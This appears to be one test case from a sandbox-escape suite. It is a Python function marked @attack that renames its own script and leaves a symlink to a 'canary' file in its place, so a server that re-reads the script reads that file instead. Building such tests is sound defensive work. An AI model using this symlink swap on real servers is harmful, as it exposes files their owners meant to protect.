from attack import *

@attack
def replace():
    """Its own text, which the server may read again."""
    import sys

    path = os.path.abspath(sys.argv[0])
    os.rename(path, path + ".old")
    os.symlink(HOST["canary"], path)
    return path
